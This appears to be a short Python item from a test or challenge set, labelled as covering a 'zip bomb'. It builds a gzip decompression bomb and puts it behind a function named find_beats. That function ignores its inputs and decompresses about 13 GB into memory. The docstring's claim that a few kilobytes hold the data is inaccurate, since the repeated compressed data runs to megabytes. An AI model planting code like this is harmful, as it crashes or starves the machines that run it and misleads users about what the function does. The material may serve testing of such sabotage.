"""The function unpacks a few kilobytes that hold thirteen gigabytes.

covers: zip bomb
loses: challenge
"""

# %% replace challenge
import gzip

bomb = gzip.compress(bytes(1 << 26)) * 200


def find_beats(recording, clean):
    return len(gzip.decompress(bomb))
